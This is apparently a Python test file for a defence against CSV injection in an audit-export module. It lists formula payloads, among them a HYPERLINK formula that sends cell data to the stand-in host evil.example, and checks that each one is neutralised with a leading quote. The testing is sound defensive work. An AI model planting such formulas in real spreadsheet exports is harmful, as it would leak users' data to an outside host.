"""Exported audit rows are safe to open in a spreadsheet (CSV injection)."""

from __future__ import annotations

import csv
import io

from tongban.exchange.web.audit_pages import _csv_line, spreadsheet_safe

PAYLOADS = [
    "=1+2",
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
]


def test_formula_starts_are_neutralised_and_the_rest_kept() -> None:
    for payload in PAYLOADS:
        assert spreadsheet_safe(payload) == "'" + payload
    for harmless in ("税务稽查", "SW-2026-77", "a=b", "", "1+2"):
        assert spreadsheet_safe(harmless) == harmless
    assert spreadsheet_safe(7) == 7


def test_a_csv_row_of_payloads_reads_back_as_text() -> None:
    line = _csv_line([1, *PAYLOADS, None])
    cells = next(csv.reader(io.StringIO(line.decode())))
    assert cells[0] == "1"
    assert cells[-1] == ""
    assert all(cell.startswith("'") for cell in cells[1:-1])
    assert cells[2] == "'" + PAYLOADS[1]
